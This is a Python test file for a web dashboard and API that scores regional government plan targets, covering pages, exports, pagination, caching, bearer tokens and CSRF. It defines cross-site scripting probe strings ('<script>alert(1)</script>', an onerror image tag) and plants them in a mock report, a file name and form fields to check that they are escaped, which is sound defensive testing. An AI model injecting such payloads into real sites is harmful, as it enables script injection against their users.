"""The web dashboard and JSON API (`planwatch serve`), through FastAPI's TestClient, on SQLite and
PostgreSQL: every page type and endpoint on a database of the seed reports and the examples, the API
against the command line, downloads, pagination, escaping of hostile documents, tokens and CSRF."""

from __future__ import annotations

import csv
import html
import io
import json
import os
import re
import tempfile
from collections import Counter
from collections.abc import Iterator
from decimal import Decimal
from pathlib import Path

import pytest
from fastapi.testclient import TestClient
from openpyxl import load_workbook
from typer.testing import CliRunner

from planwatch import store
from planwatch.cli import app as cli
from planwatch.corrections import corrections as store_corrections
from planwatch.ingest import ingest
from planwatch.models import Figure, FigureRecord
from planwatch.store.db import dispose_engines
from planwatch.web import create_app

ROOT = Path(__file__).resolve().parents[1]
SEEDS = ROOT.parent / "shared" / "seeds"
EXAMPLES = sorted((ROOT / "examples").glob("*.txt"))
TOKEN = "s3cret-token"
HOSTILE = ["<script>alert(1)</script>", "<img src=x onerror=alert(1)>"]
HOSTILE_TEXT = (
    "澜泽市2024年国民经济和社会发展计划\n<script>alert(1)</script>\n\n"
    "一、2024年主要预期目标\n"
    "地区生产总值增长6%左右<img src=x onerror=alert(1)>;新增<script>alert(1)</script>城镇就业3万人以上;"
    "<img src=x onerror=alert(1)>居民消费价格涨幅3%左右。\n"
)


def _seed_sources() -> list[Path]:
    return sorted(SEEDS.glob("*.txt")) + EXAMPLES


@pytest.fixture(scope="module", params=["sqlite", "postgresql"])
def books(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    """A database of the seed reports and the examples (once per module and backend), as `db_url` makes
    them; tests that write use a database of their own."""
    if request.param == "sqlite":
        url = f"sqlite:///{tmp_path_factory.mktemp('web') / 'books.db'}"
    else:
        url = request.getfixturevalue("postgres_server").create_database()
    report = ingest(_seed_sources(), db=url, jobs=2)
    assert report.ok and report.count("stored") == len(_seed_sources())
    yield url
    dispose_engines()


@pytest.fixture(scope="module")
def client(books: str) -> TestClient:
    """A read-only server over `books`."""
    return TestClient(create_app(books))


def _cli(*args: str) -> str:
    result = CliRunner().invoke(cli, list(args))
    assert result.exit_code == 0, result.output
    return result.stdout


def _text_of(fragment: str) -> str:
    """The text a browser shows of an HTML fragment: tags dropped, entities decoded."""
    return html.unescape(re.sub(r"<[^>]*>", "", fragment))


def _document_text_div(page: str) -> str:
    start = page.index('data-testid="document-text">') + len('data-testid="document-text">')
    end = page.index("</div>\n</section>", start)
    return page[start:end]


def _csrf(page: str) -> str:
    return re.search(r'name="csrf_token" value="([^"]+)"', page).group(1)


# ---- pages ------------------------------------------------------------------------------------------

def test_every_page_type_loads_with_its_key_elements(client: TestClient, books: str) -> None:
    regions = [r.name for r in store.regions(books)]
    documents = store.documents(books)
    assert {"包头市", "九原区", "乌海市", "澜泽市", "禾麓区"} <= set(regions)
    pages = {"/": "overview-table", "/documents": "documents-table", "/corrections": "corrections-log",
             "/indicator/gdp?year=2024": "compare-table", "/login": "read-only-notice"}
    pages.update({f"/region/{name}": "annex-table" for name in ("包头市", "九原区", "澜泽市", "禾麓区")})
    pages.update({f"/doc/{d.id}": "document-text" for d in documents})
    for url, testid in pages.items():
        response = client.get(url)
        assert response.status_code == 200, url
        assert f'data-testid="{testid}"' in response.text, url
        assert "default-src 'self'" in response.headers["content-security-policy"]
        assert response.headers["x-content-type-options"] == "nosniff"
    assert 'data-testid="scorecard-table"' in client.get("/region/包头市").text
    assert client.get("/region/无此地").status_code == 404
    assert client.get("/doc/99999").status_code == 404
    assert client.get("/indicator/no_such_indicator").status_code == 404


def test_no_page_has_an_inline_script_or_a_resource_from_elsewhere(client: TestClient, books: str) -> None:
    doc_id = store.documents(books)[0].id
    for url in ("/", "/region/包头市", f"/doc/{doc_id}", "/indicator/gdp", "/documents", "/corrections", "/login",
                "/docs"):
        page = client.get(url).text
        for tag in re.findall(r"<script\b[^>]*>", page):
            assert 'src="/static/' in tag or 'type="application/json"' in tag, (url, tag)
        assert not re.search(r'(src|href)="(https?:)?//', page), url
        assert " style=" not in page and "<style" not in page, url
        assert not re.search(r"<[a-zA-Z][^>]*\son[a-z]+\s*=", page), url  # no event handler attributes
    for asset in ("/static/style.css", "/static/app.js", "/static/swagger-init.js",
                  "/static/swagger-ui/swagger-ui-bundle.js", "/static/swagger-ui/swagger-ui.css"):
        assert client.get(asset).status_code == 200, asset


def test_overview_counts_are_the_scorecards(client: TestClient, books: str) -> None:
    expected: dict[tuple[str, int], Counter[str]] = {}
    for line in _cli("scorecard", "--db", books, "--format", "jsonl").splitlines():
        row = json.loads(line)
        expected.setdefault((row["region"], row["year"]), Counter())[row["status"]] += 1
    rows = client.get("/api/regions").json()["rows"]
    found = {(r["name"], int(year)): Counter({s: n for s, n in tally.items() if s != "provisional" and n})
             for r in rows for year, tally in r["counts"].items()}
    assert found == expected
    page = client.get("/").text
    assert page.count('data-testid="region-row"') == len(rows)
    assert "<svg" in page and 'class="mark status-met"' in page


def test_overview_filters_by_level_and_year(client: TestClient) -> None:
    counties = client.get("/api/regions?level=county").json()["rows"]
    assert {r["name"] for r in counties} == {"九原区", "禾麓区"}
    assert {r["level"] for r in counties} == {"county"}
    in_2023 = client.get("/api/regions?year=2023").json()["rows"]
    assert {int(y) for r in in_2023 for y in r["counts"]} == {2023}
    page = client.get("/?level=county").text
    assert 'data-region="九原区"' in page and 'data-region="包头市"' not in page
    assert client.get("/api/regions?level=planet").status_code == 400


def test_government_page_annex_is_the_cli_annex_and_links_to_sentences(client: TestClient, books: str) -> None:
    cli_annex = json.loads(_cli("annex", "--db", books, "--region", "包头市", "--year", "2024", "--format", "json"))
    assert client.get("/api/annex?region=包头市&year=2024").json() == cli_annex
    region = client.get("/api/region/包头市").json()
    [annex_2024] = [a for a in region["annex"] if a["year"] == 2024]
    assert [r["indicator"] for r in annex_2024["rows"]] == [r["indicator"] for r in cli_annex["rows"]]
    page = client.get("/region/包头市").text
    links = re.findall(r'href="/doc/(\d+)#f(\d+)" data-testid="annex-cell"', page)
    assert len(links) >= 10
    for doc_id, figure_id in set(links):
        record = store.get_figure(books, int(figure_id))
        assert record is not None and record.doc_id == int(doc_id)
        assert f'id="f{figure_id}"' in client.get(f"/doc/{doc_id}").text
    table = page[page.index('data-testid="annex-table"'):]
    assert "(预计)" in page or "预计" in table  # provisional results are marked
    assert page.count('data-testid="indicator-chart"') >= 3


def test_government_page_knows_parent_and_children(client: TestClient) -> None:
    jiuyuan = client.get("/api/region/九原区").json()
    assert jiuyuan["parent"] == "包头市" and jiuyuan["level"] == "county"
    baotou = client.get("/api/region/包头市").json()
    assert baotou["parent"] == "内蒙古自治区"
    assert "九原区" in baotou["children"]
    assert "昆都仑区" in baotou["gazetteer_children"]  # a district of 包头市 without documents
    assert client.get("/api/region/禾麓区").json()["parent"] == "澜泽市"
    assert "禾麓区" in client.get("/api/region/澜泽市").json()["children"]
    page = client.get("/region/九原区").text
    assert '<a href="/region/%E5%8C%85%E5%A4%B4%E5%B8%82">包头市</a>' in page


def test_document_page_keeps_the_text_and_highlights_every_figure(client: TestClient, books: str) -> None:
    for document in store.documents(books):
        page = client.get(f"/doc/{document.id}").text
        stored = store.get_document(books, document.id)
        assert _text_of(_document_text_div(page)) == stored.text
        figures = store.figures(books, doc_id=document.id)
        for record in figures:
            assert f'id="f{record.id}"' in page
        marks = re.findall(r'<mark class="figure kind-(\w+)[^"]*" data-testid="figure" data-figure-id="(\d+)"', page)
        assert {int(i) for _, i in marks} <= {r.id for r in figures}
        assert {k for k, _ in marks} <= {"target", "actual", "estimate"}
        assert {k for k, _ in marks} <= {r.figure.kind for r in figures}
        if figures:
            data = json.loads(re.search(r'<script type="application/json" id="figure-data">(.*?)</script>', page,
                                        re.S).group(1))
            assert set(map(int, data)) == {r.id for r in figures}


def test_document_figures_filter_and_link_targets_with_results(client: TestClient, books: str) -> None:
    [plan] = [d for d in store.documents(books) if d.name.startswith("澜泽市_2023")]
    rows = client.get(f"/api/doc/{plan.id}/figures").json()["rows"]
    assert len(rows) == plan.figure_count
    targets = client.get(f"/api/doc/{plan.id}/figures?kind=target&catalog=true").json()["rows"]
    assert targets and all(r["kind"] == "target" and r["catalog"] for r in targets)
    gdp = client.get(f"/api/doc/{plan.id}/figures?indicator=gdp").json()["rows"]
    assert gdp and {r["indicator"] for r in gdp} == {"gdp"}
    # the 2024 GDP growth target of 澜泽市 is judged by the 2025 work report's result, and links to it
    [target] = [r for r in targets if r["indicator"] == "gdp" and r["year"] == 2024 and r["measure"] == "growth"][:1]
    assert target["verdict"]["status"] in ("met", "missed")
    linked = target["linked"]
    assert linked["kind"] in ("actual", "estimate") and linked["doc_id"] != plan.id
    back = client.get(f"/api/figure/{linked['id']}").json()
    assert back["linked"]["id"] == target["id"]
    page = client.get(f"/doc/{plan.id}?figure={target['id']}").text
    detail = page[page.index('data-testid="figure-detail"'):page.index("</aside>")]
    assert "hidden" not in detail[:80]
    assert f'/doc/{linked["doc_id"]}?figure={linked["id"]}#f{linked["id"]}' in detail
    filtered = client.get(f"/doc/{plan.id}?kind=actual").text
    listed = re.findall(r'<tr data-figure-id="\d+" data-kind="(\w+)"', filtered)
    assert listed and set(listed) == {"actual"}


def test_indicator_page_shows_escalation_from_parent_to_child(client: TestClient, books: str) -> None:
    data = client.get("/api/indicator/gdp?year=2024").json()
    cli_rows = [json.loads(line) for line in
                _cli("compare", "--db", books, "--year", "2024", "--indicator", "gdp", "--format", "jsonl").splitlines()]
    assert [(r["region"], r["measure"], r["escalation"]) for r in data["rows"]] == \
        [(r["region"], r["measure"], r["escalation"]) for r in cli_rows]
    [jiuyuan] = [r for r in data["rows"] if r["region"] == "九原区" and r["measure"] == "growth"]
    assert jiuyuan["parent"] == "包头市" and jiuyuan["parent_target"] is not None
    assert jiuyuan["escalation"] == pytest.approx(jiuyuan["target"]["value"] - jiuyuan["parent_target"]["value"])
    assert 2024 in data["years"]
    page = client.get("/indicator/gdp?year=2024").text
    assert 'data-testid="indicator-chart"' in page and 'data-region="九原区"' in page
    assert client.get("/api/indicator/gdp").json()["year"] == max(data["years"])


def test_highlights_nest_merge_and_split_overlapping_spans() -> None:
    from planwatch.web.highlight import Highlight, flatten_text, highlight

    text = "地区生产总值增长6%左右,居民收入增长6%。"

    def record(n: int, start: int, end: int, kind: str = "target") -> FigureRecord:
        figure = Figure("gdp", "x", "growth", None, "%", "approx", kind, 2024, None, text[start:end], start, end)
        return FigureRecord(n, figure, 1, "d", "other", None, None, None, None, None, None)

    outer, inner, same, crossing = record(1, 0, 12, "actual"), record(2, 6, 10), record(3, 6, 10), record(4, 10, 17)
    nodes = highlight(text, [crossing, same, inner, outer])
    assert flatten_text(nodes) == text
    [first, rest, tail] = nodes
    assert isinstance(first, Highlight) and first.figure_ids == [1] and first.kind == "actual"
    assert isinstance(rest, Highlight) and rest.figure_ids == [4] and rest.continued and tail == "增长6%。"
    assert [type(n).__name__ for n in first.children] == ["str", "Highlight", "Highlight"]
    nested, split = first.children[1], first.children[2]
    assert nested.figure_ids == [2, 3] and (nested.start, nested.end) == (6, 10)
    assert split.figure_ids == [4] and (split.start, split.end, split.continued) == (10, 12, False)
    assert (rest.start, rest.end) == (12, 17)
    assert flatten_text(highlight(text, [record(5, 3, 3), record(6, 15, 99)])) == text


# ---- the API against the command line ---------------------------------------------------------------

@pytest.mark.parametrize("query", [{}, {"region": "包头市"}, {"year": "2024"}, {"region": "澜泽市", "year": "2024"}])
def test_api_scorecard_is_the_cli_jsonl(client: TestClient, books: str, query: dict[str, str]) -> None:
    args = [arg for key, value in query.items() for arg in (f"--{key}", value)]
    printed = _cli("scorecard", "--db", books, "--format", "jsonl", *args)
    assert printed
    assert client.get("/api/scorecard", params={**query, "format": "jsonl"}).text == printed
    body = client.get("/api/scorecard", params=query).json()
    assert body["rows"] == [json.loads(line) for line in printed.splitlines()]
    assert body["total"] == len(printed.splitlines()) and body["next"] is None


def test_api_compare_is_the_cli_jsonl(client: TestClient, books: str) -> None:
    printed = _cli("compare", "--db", books, "--year", "2024", "--format", "jsonl")
    assert client.get("/api/compare?year=2024").json()["rows"] == [json.loads(x) for x in printed.splitlines()]


def test_every_table_downloads_as_csv_and_xlsx(client: TestClient, books: str) -> None:
    doc_id = store.documents(books)[0].id
    tables = ["/api/regions", "/api/documents", "/api/figures?region=九原区", f"/api/doc/{doc_id}/figures",
              "/api/scorecard?region=包头市", "/api/annex?region=包头市&year=2024", "/api/compare?year=2024",
              "/api/indicator/gdp?year=2024", "/api/corrections"]
    for url in tables:
        joiner = "&" if "?" in url else "?"
        as_csv = client.get(f"{url}{joiner}format=csv")
        assert as_csv.status_code == 200 and as_csv.headers["content-type"].startswith("text/csv"), url
        assert "attachment" in as_csv.headers["content-disposition"]
        assert as_csv.content.startswith(b"\xef\xbb\xbf"), url  # Excel reads UTF-8 after a byte-order mark
        rows = list(csv.reader(io.StringIO(as_csv.content.decode("utf-8-sig"))))
        as_xlsx = client.get(f"{url}{joiner}format=xlsx")
        assert as_xlsx.status_code == 200, url
        sheet = load_workbook(io.BytesIO(as_xlsx.content)).active
        cells = [[c for c in row] for row in sheet.iter_rows(values_only=True)]
        if url == "/api/corrections":
            assert len(rows) <= 1
            continue
        assert len(rows) > 1, url
        assert len(cells) >= len(rows) - 1, url  # the annex sheet has a title row; others one per row
    figures = list(csv.DictReader(io.StringIO(client.get("/api/figures?region=九原区&format=csv").content.decode("utf-8-sig"))))
    assert len(figures) == len(store.figures(books, region="九原区"))
    assert {"编号", "指标", "数值", "单位", "比较", "原文", "文件名"} <= set(figures[0])  # Chinese headers by default
    english = csv.DictReader(io.StringIO(client.get("/api/figures?region=九原区&format=csv&lang=en").text))
    assert {"id", "indicator", "value", "unit", "op", "quote"} <= set(english.fieldnames or [])
    client.cookies.clear()  # ?lang=en is remembered
    scorecard = load_workbook(io.BytesIO(client.get("/api/scorecard?region=包头市&format=xlsx").content)).active
    assert {"地区", "年份", "判定", "目标_数值", "结果_原文"} <= {c.value for c in scorecard[1]}
    annex_rows = list(csv.reader(io.StringIO(
        client.get("/api/annex?region=包头市&year=2024&format=csv").content.decode("utf-8-sig"))))
    assert annex_rows == list(csv.reader(io.StringIO(
        _cli("annex", "--db", books, "--region", "包头市", "--year", "2024", "--format", "csv"))))
    assert client.get("/api/regions?format=pdf").status_code == 400


def test_pagination_walks_every_figure_once_in_order(client: TestClient, books: str) -> None:
    everything = [r.id for r in store.figures(books, region="包头市")]
    seen, url, pages = [], "/api/figures?region=包头市&per_page=37", 0
    while url:
        body = client.get(url).json()
        assert body["total"] == len(everything) and body["per_page"] == 37
        assert len(body["rows"]) <= 37
        seen += [r["id"] for r in body["rows"]]
        url, pages = body["next"], pages + 1
    assert seen == everything and pages == -(-len(everything) // 37)
    last = client.get(f"/api/figures?region=包头市&per_page=37&page={pages}").json()
    assert last["next"] is None and last["previous"].endswith(f"page={pages - 1}")
    assert client.get(f"/api/figures?region=包头市&per_page=37&page={pages + 1}").json()["rows"] == []
    assert client.get("/api/figures?per_page=0").status_code == 400
    assert client.get("/api/figures?page=0").status_code == 400
    kinds = client.get("/api/figures?kind=target&year=2024&indicator=gdp&per_page=500").json()
    assert kinds["total"] == len(store.figures(books, kind="target", year=2024, indicator="gdp"))
    documents = client.get("/api/documents?per_page=4&page=2").json()
    assert [d["id"] for d in documents["rows"]] == [d.id for d in store.documents(books)][4:8]


def test_openapi_and_offline_docs(client: TestClient) -> None:
    spec = client.get("/openapi.json").json()
    for path in ("/api/regions", "/api/region/{name}", "/api/documents", "/api/doc/{doc_id}",
                 "/api/doc/{doc_id}/figures", "/api/figures", "/api/indicator/{indicator}", "/api/scorecard",
                 "/api/annex", "/api/compare", "/api/corrections", "/api/upload",
                 "/api/figure/{figure_id}/corrections"):
        assert path in spec["paths"], path
    old = client.get("/openapi-3.0.json").json()
    assert old["openapi"] == "3.0.3" and set(old["paths"]) == set(spec["paths"])
    assert '"type": "null"' not in json.dumps(old)
    docs = client.get("/docs").text
    assert "/static/swagger-ui/swagger-ui-bundle.js" in docs and "cdn" not in docs.lower()


def test_english_switch_is_remembered(client: TestClient) -> None:
    assert "总览" in client.get("/").text
    english = client.get("/?lang=en")
    assert "Overview" in english.text and english.cookies.get("lang") == "en"
    assert "Overview" in client.get("/documents").text  # the cookie carries it
    assert "总览" in client.get("/?lang=zh").text
    assert "总览" in client.get("/documents").text


@pytest.mark.parametrize("url", ["/search?q=%E5%B0%B1%00%E4%B8%9A", "/api/search?q=%00", "/api/figures?region=%00",
                                 "/documents?region=x%00", "/region/a%00b", "/api/region/a%00b"])
def test_a_nul_character_is_a_clean_400(client: TestClient, url: str) -> None:
    response = client.get(url)
    assert response.status_code == 400 and "NUL" in response.text
    assert "Content-Security-Policy" in response.headers


def test_documents_show_their_source_as_given_never_a_server_path(client: TestClient, books: str) -> None:
    sources = {d["source"] for d in client.get("/api/documents?per_page=100").json()["rows"]}
    assert sources == {str(p) for p in _seed_sources()}  # ingested file by file: the paths as given


# ---- hostile documents ------------------------------------------------------------------------------

def test_a_hostile_document_shows_its_tags_as_text_everywhere(db_url: str, tmp_path: Path) -> None:
    source = tmp_path / "<img src=x onerror=alert(1)>.txt"
    source.write_text(HOSTILE_TEXT, encoding="utf-8")
    assert ingest([source], db=db_url, jobs=1).ok
    [document] = store.documents(db_url)
    figures = store.figures(db_url, doc_id=document.id)
    assert any("<" in r.figure.quote for r in figures)  # the tags are inside quotes, not only in the text
    client = TestClient(create_app(db_url, token=TOKEN))
    login(client)
    page = client.get(f"/doc/{document.id}").text
    csrf = _csrf(page)
    figure = next(r for r in figures if "<" in r.figure.quote)
    assert client.post("/correct", data={"csrf_token": csrf, "figure_id": figure.id, "field": "label",
                                         "value": HOSTILE[0], "why": HOSTILE[1]}).status_code == 200
    region = document.facts.region or "澜泽市"
    urls = ["/", "/documents", f"/doc/{document.id}", f"/doc/{document.id}?figure={figure.id}",
            f"/region/{region}", "/indicator/gdp?year=2024", "/corrections", "/upload"]
    for url in urls:
        page = client.get(url).text
        for tag in HOSTILE:
            assert tag not in page, (url, tag)
    page = client.get(f"/doc/{document.id}?figure={figure.id}").text
    assert html.escape(HOSTILE[0], quote=False) in page and html.escape(HOSTILE[1], quote=False) in page
    assert _text_of(_document_text_div(page)) == HOSTILE_TEXT
    log = client.get("/corrections").text
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in log and "&lt;img src=x onerror=alert(1)&gt;" in log
    # JSON in the page cannot close its <script> block
    data_block = re.search(r'id="figure-data">(.*?)</script>', page, re.S).group(1)
    assert "<" not in data_block and HOSTILE[0] in json.dumps(json.loads(data_block), ensure_ascii=False)
    # an uploaded file with a hostile name is listed as text
    response = client.post("/upload", data={"csrf_token": csrf},
                           files=[("files", (HOSTILE[1] + ".txt", "2024年地区生产总值增长5%左右。".encode(), "text/plain"))])
    assert response.status_code == 200 and HOSTILE[1] not in response.text
    assert html.escape(HOSTILE[1], quote=False) + ".txt" in response.text


# ---- writing: tokens, sessions, CSRF ----------------------------------------------------------------

@pytest.fixture
def small_books(db_url: str) -> str:
    """A database of the three examples."""
    assert ingest(EXAMPLES, db=db_url, jobs=1).ok
    return db_url


def login(client: TestClient, token: str = TOKEN, name: str = "张三") -> None:
    csrf = _csrf(client.get("/login").text)
    response = client.post("/login", data={"csrf_token": csrf, "name": name, "token": token, "next": "/"},
                           follow_redirects=False)
    assert response.status_code == 303, response.text


def test_an_anonymous_reader_sees_the_books_as_they_are_now(small_books: str, tmp_path: Path) -> None:
    """Pages kept for readers without a login are dropped when the books change: a correction, a new
    document."""
    from planwatch.corrections import correct

    client = TestClient(create_app(small_books))
    figure = store.figures(small_books, kind="target", indicator="gdp")[0]
    shown = client.get(f"/api/figure/{figure.id}").json()["value"]
    assert client.get(f"/api/figure/{figure.id}").json()["value"] == shown != 9.75
    correct(small_books, figure.id, {"value": "9.75"}, why="原文为9.75%", author="李四")
    assert client.get(f"/api/figure/{figure.id}").json()["value"] == 9.75
    listed = client.get("/api/documents").json()["rows"]
    source = tmp_path / "另一份.txt"  # an example with a line more: a new document
    source.write_text(EXAMPLES[0].read_text(encoding="utf-8") + "\n附:另行印发。\n", encoding="utf-8")
    assert ingest([source], db=small_books, jobs=1).count("stored") == 1
    assert len(client.get("/api/documents").json()["rows"]) == len(listed) + 1


def test_a_kept_page_is_kept_compressed_for_readers_that_take_gzip(small_books: str) -> None:
    """A large page kept for anonymous readers is compressed once: a reader that takes gzip gets the kept
    compressed body (the same page), one that does not gets it plain."""
    app = create_app(small_books)
    client = TestClient(app)
    doc_id = store.documents(small_books)[0].id
    plain = [client.get(f"/doc/{doc_id}", headers={"Accept-Encoding": "identity"}) for _ in range(2)]
    packed = [client.get(f"/doc/{doc_id}", headers={"Accept-Encoding": "gzip"}) for _ in range(2)]
    assert all("content-encoding" not in r.headers for r in plain)
    assert all(r.headers["content-encoding"] == "gzip" and "Accept-Encoding" in r.headers["vary"] for r in packed)
    assert int(packed[1].headers["content-length"]) < len(plain[1].content)
    assert {r.text for r in plain + packed} == {plain[0].text}
    _, _, kept = app.state.page_cache.get((f"/doc/{doc_id}", "", "zh", True))
    assert kept[:2] == b"\x1f\x8b"  # gzip's magic: kept compressed


def test_kept_answers_go_when_the_books_change_when_old_or_when_room_is_needed(monkeypatch: pytest.MonkeyPatch) -> None:
    from planwatch.web.pages import cache

    now, state = [1000.0], [("books", 1)]
    monkeypatch.setattr(cache.time, "monotonic", lambda: now[0])
    monkeypatch.setattr(cache, "books_state", lambda db: state[0])
    pages = cache.PageCache(max_bytes=80, ttl=300)
    pages.check(state[0])
    for key in "abcdefgh":  # 8 pages of 10 bytes: full
        pages.put(key, 200, [], key.encode() * 10)
    pages.put("too big", 200, [], b"x" * 11)  # more than an eighth of the room: never kept
    assert pages.get("a") == (200, [], b"a" * 10) and pages.get("too big") is None
    pages.put("i", 200, [], b"i" * 10)  # the least recently used (b, as a was just read) makes room
    assert pages.get("b") is None and pages.get("a") and pages.get("i")
    now[0] += 301
    assert pages.get("a") is None
    pages.put("j", 200, [], b"j")
    pages.check(("books", 2))
    assert pages.get("j") is None
    # an answer that took longer than ttl to compute is kept ttl seconds from then
    books = cache.BooksCache(ttl=300)

    def slow() -> str:
        now[0] += 400
        return "computed"

    assert books.get("db", "k", slow) == "computed"
    now[0] += 299
    assert books.get("db", "k", lambda: "again") == "computed"
    state[0] = ("books", 3)
    assert books.get("db", "k", lambda: "again") == "again"


def test_a_scorecard_of_the_whole_books_needs_a_region_or_a_year_past_a_size(small_books: str,
                                                                             monkeypatch: pytest.MonkeyPatch) -> None:
    from planwatch.web.views import books

    client = TestClient(create_app(small_books))
    assert client.get("/api/scorecard").status_code == 200
    monkeypatch.setattr(books, "WHOLE_BOOKS_DOCUMENTS", len(EXAMPLES) - 1)
    refused = client.get("/api/scorecard?lang=en")  # another address than the answer kept above
    assert refused.status_code == 400 and "region=" in refused.text
    region = store.documents(small_books)[0].facts.region
    assert client.get("/api/scorecard", params={"region": region}).status_code == 200


def test_a_server_without_token_is_read_only(small_books: str) -> None:
    client = TestClient(create_app(small_books))
    figure = store.figures(small_books)[0]
    assert client.post("/api/upload", files=[("files", ("a.txt", b"x", "text/plain"))],
                       headers={"Authorization": f"Bearer {TOKEN}"}).status_code == 403
    assert client.post(f"/api/figure/{figure.id}/corrections", json={"changes": {"value": "1"}, "why": "x"},
                       headers={"Authorization": f"Bearer {TOKEN}"}).status_code == 403
    assert client.post("/correct", data={"figure_id": figure.id, "field": "value", "value": "1",
                                         "why": "x"}).status_code == 403
    assert client.post("/upload", files=[("files", ("a.txt", b"x", "text/plain"))]).status_code == 403
    assert client.post("/login", data={"name": "x", "token": TOKEN}).status_code == 403
    page = client.get(f"/doc/{figure.doc_id}").text
    assert 'data-testid="correction-form"' not in page and 'name="csrf_token"' not in page
    assert 'data-testid="upload-form"' not in client.get("/upload").text
    assert 'data-testid="login-form"' not in client.get("/login").text
    assert store.documents(small_books) and not client.get("/api/corrections").json()["rows"]


def test_api_writes_need_the_bearer_token(small_books: str, tmp_path: Path) -> None:
    client = TestClient(create_app(small_books, token=TOKEN))
    figure = store.figures(small_books)[0]
    body = {"changes": {"value": "7.5"}, "why": "原文为7.5"}
    for headers in ({}, {"Authorization": "Bearer wrong"}, {"Authorization": f"Basic {TOKEN}"},
                    {"Authorization": TOKEN}):
        response = client.post(f"/api/figure/{figure.id}/corrections", json=body, headers=headers)
        assert response.status_code == 401, headers
        assert response.headers["www-authenticate"] == "Bearer"
        assert client.post("/api/upload", files=[("files", ("a.txt", b"x", "text/plain"))],
                           headers=headers).status_code == 401
    assert not client.get("/api/corrections").json()["rows"]
    assert client.post("/upload", files=[("files", ("a.txt", b"x", "text/plain"))]).status_code == 401
    assert client.post("/correct", data={"figure_id": figure.id, "field": "value", "value": "1",
                                         "why": "x"}).status_code == 401

    bearer = {"Authorization": f"Bearer {TOKEN}"}
    response = client.post(f"/api/figure/{figure.id}/corrections", json={**body, "author": "李四"}, headers=bearer)
    assert response.status_code == 201
    [logged] = client.get("/api/corrections").json()["rows"]
    assert (logged["author"], logged["why"], logged["new"], logged["figure_id"]) == ("李四", "原文为7.5", "7.5", figure.id)
    assert client.get(f"/api/figure/{figure.id}").json()["value"] == 7.5
    assert client.post(f"/api/figure/{figure.id}/corrections", json={"changes": {"value": "8"}, "why": " "},
                       headers=bearer).status_code == 400
    assert client.post("/api/figure/999999/corrections", json=body, headers=bearer).status_code == 404

    good = (ROOT / "examples" / "澜泽市_2025年政府工作报告.txt").read_bytes()
    new = "禾麓区2025年国民经济和社会发展计划\n2025年地区生产总值增长6%左右。\n".encode()
    response = client.post("/api/upload", headers=bearer, data={"region": "九原区"}, files=[
        ("files", ("new.txt", new, "text/plain")), ("files", ("again.txt", good, "text/plain")),
        ("files", ("broken.pdf", b"%PDF-1.4 not really", "application/pdf"))])
    assert response.status_code == 200
    outcomes = {o["file"]: o for o in response.json()["outcomes"]}
    assert outcomes["new.txt"]["status"] == "stored" and outcomes["new.txt"]["figures"] >= 1
    assert outcomes["again.txt"]["status"] == "unchanged"
    assert outcomes["broken.pdf"]["status"] == "failed" and outcomes["broken.pdf"]["reason"]
    stored = store.get_document(small_books, outcomes["new.txt"]["doc_id"])
    assert stored.name == "new.txt" and stored.facts.region == "九原区"
    listed = {d["id"]: d["source"] for d in client.get("/api/documents?per_page=100").json()["rows"]}
    assert listed[stored.id] == "new.txt"  # the file's name, not the server's temporary folder
    uploads = os.path.join(tempfile.gettempdir(), "planwatch-upload-")
    assert not any(source.startswith(uploads) or "planwatch-upload-" in source for source in listed.values())


def test_forms_need_a_login_and_the_csrf_token(small_books: str) -> None:
    client = TestClient(create_app(small_books, token=TOKEN))
    csrf = _csrf(client.get("/login").text)
    assert client.post("/login", data={"name": "张三", "token": TOKEN}).status_code == 403  # no CSRF token
    wrong = client.post("/login", data={"csrf_token": csrf, "name": "张三", "token": "guess"})
    assert wrong.status_code == 401 and 'data-testid="login-error"' in wrong.text
    login(client)
    figure = store.figures(small_books, kind="target")[0]
    page = client.get(f"/doc/{figure.doc_id}").text
    assert 'data-testid="correction-form"' in page
    token = _csrf(page)
    form = {"figure_id": figure.id, "field": "value", "value": "9.9", "why": "复核原文"}
    assert client.post("/correct", data=form).status_code == 403
    assert client.post("/correct", data={**form, "csrf_token": "forged"}).status_code == 403
    assert client.post("/upload", data={"csrf_token": "forged"},
                       files=[("files", ("a.txt", b"x", "text/plain"))]).status_code == 403
    assert not client.get("/api/corrections").json()["rows"]
    other = TestClient(create_app(small_books, token=TOKEN))  # another browser cannot use this session's token
    assert other.post("/correct", data={**form, "csrf_token": token}).status_code == 401


def test_a_correction_through_the_form_shows_in_the_log(small_books: str) -> None:
    client = TestClient(create_app(small_books, token=TOKEN))
    login(client, name="王五")
    cookie = client.cookies.get("planwatch_session")
    assert cookie
    figure = store.figures(small_books, kind="target", indicator="gdp")[0]
    csrf = _csrf(client.get(f"/doc/{figure.doc_id}").text)
    response = client.post("/correct", data={"csrf_token": csrf, "figure_id": figure.id, "field": "value",
                                             "value": "6.6", "why": "原文为6.6%"}, follow_redirects=False)
    assert response.status_code == 303
    assert response.headers["location"].startswith(f"/doc/{figure.doc_id}?figure={figure.id}")
    log = client.get("/corrections").text
    assert 'data-testid="corrections-log"' in log and "王五" in log and "原文为6.6%" in log
    [logged] = client.get("/api/corrections").json()["rows"]
    assert (logged["author"], logged["field"], logged["new"], logged["url"]) == \
        ("王五", "value", "6.6", f"/doc/{figure.doc_id}#f{figure.id}")
    assert client.get(f"/api/figure/{figure.id}").json()["value"] == 6.6
    bad = client.post("/correct", data={"csrf_token": csrf, "figure_id": figure.id, "field": "value",
                                        "value": "6.7", "why": ""})
    assert bad.status_code == 400
    assert client.post("/logout", data={"csrf_token": csrf}, follow_redirects=False).status_code == 303
    assert client.post("/correct", data={"csrf_token": csrf, "figure_id": figure.id, "field": "value",
                                         "value": "6.8", "why": "x"}).status_code == 401


def test_the_session_cookie_is_strict_and_set_by_logging_in_only(small_books: str) -> None:
    client = TestClient(create_app(small_books, token=TOKEN))
    form_cookie = client.get("/login").headers["set-cookie"].lower()
    assert "planwatch_login=" in form_cookie and "samesite=strict" in form_cookie and "httponly" in form_cookie
    assert "planwatch_session" not in form_cookie
    response = client.post("/login", data={"csrf_token": _csrf(client.get("/login").text), "name": "张三",
                                           "token": TOKEN, "next": "/"}, follow_redirects=False)
    cookie = response.headers["set-cookie"].lower()
    assert "planwatch_session=" in cookie and "samesite=strict" in cookie and "httponly" in cookie


def test_a_visit_without_the_cookie_leaves_the_session_alone(small_books: str) -> None:
    """A link from another site arrives without the SameSite=Strict cookie: the page it opens may not
    answer with a new session cookie, which would replace the logged-in one (issue 9: a link logged the
    user out)."""
